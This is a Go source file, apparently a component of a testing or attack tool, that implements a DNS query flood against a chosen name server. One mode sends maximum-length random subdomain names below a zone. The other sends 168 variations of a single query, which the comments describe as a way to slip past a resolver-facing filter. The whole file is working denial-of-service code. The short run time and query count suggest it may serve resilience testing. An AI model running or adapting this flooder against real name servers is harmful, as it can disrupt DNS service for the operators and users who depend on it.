package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"time"
)

const (
	floodTime = 2 * time.Second
	// floodAhead is how many questions are asked before their answers have come.
	floodAhead = 64
)

// Flood asks a name server for as many different long names below a zone as it can, or for the zone itself in every way
// that one name can be asked for, and returns how many questions it asked.
func Flood(ctx context.Context, server, zone string, itself bool) (asked int, err error) {
	question := longQuestion
	if itself {
		question = variedQuestion
	}
	conn, err := net.Dial("udp", server)
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	began := time.Now()
	answer := make([]byte, 4096)
	for waiting := 0; time.Since(began) < floodTime && ctx.Err() == nil; {
		if waiting < floodAhead {
			if _, err := conn.Write(question(asked, zone)); err != nil {
				return asked, err
			}
			asked, waiting = asked+1, waiting+1
			continue
		}
		_ = conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		if _, err := conn.Read(answer); err == nil {
			waiting--
		} else {
			waiting = 0 // they are lost
		}
	}
	return asked, nil
}

// longQuestion is a question for A whose name is as long as may be, RFC 1035 §2.3.4.
func longQuestion(n int, zone string) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(n))
	b = append(b, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
	room := 253 - len(zone) - 1
	name := fmt.Sprintf("%020d", n)
	for len(name)+2 < room {
		name += "." + strings.Repeat("x", min(63, room-len(name)-1))
	}
	return append(appendName(b, name+"."+zone), 0, 1, 0, 1)
}

func appendName(b []byte, name string) []byte {
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0)
}

// Varieties is how many questions for one name differ to a name server behind a filter that passes on what resolvers
// need: by type, by the flags RD, AD and CD, and by EDNS with and without DO.
const Varieties = 7 * 8 * 3

// variedQuestion is one of them.
func variedQuestion(n int, name string) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(n))
	n %= Varieties
	kind := []byte{1, 28, 5, 65, 33, 16, 15}[n%7] // A, AAAA, CNAME, HTTPS, SRV, TXT, MX
	flags, edns := n/7%8, n/7/8
	b = append(b, byte(flags&1), byte(flags>>1&1<<5|flags>>2<<4), 0, 1, 0, 0, 0, 0, 0, byte(min(edns, 1)))
	b = append(appendName(b, name), 0, kind, 0, 1)
	if edns > 0 {
		b = append(b, 0, 0, 41, 4, 208, 0, 0, byte(edns-1)<<7, 0, 0, 0)
	}
	return b
}
